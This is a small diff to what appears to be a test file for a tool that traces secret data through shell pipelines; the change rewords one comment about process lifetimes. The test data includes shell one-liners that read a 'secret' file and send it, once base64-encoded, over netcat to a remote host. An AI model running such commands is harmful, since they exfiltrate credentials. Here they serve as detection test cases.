@@ -98,7 +98,7 @@ def test_refused(case, outcome):
 
 
 # Who read the file, and through whom the data went to whoever sends it, which is not among them when it was born later,
-# unless its doppelganger was dissolved before it got the data.
+# unless it was not watched any more when the data came.
 CHAINS = {
     "cat secret | tac | nc remote 9": "cat>tac>nc",
     "x=$(base64 -w0 secret); (echo $x) | nc remote 9": "base64>bash(>nc)?",
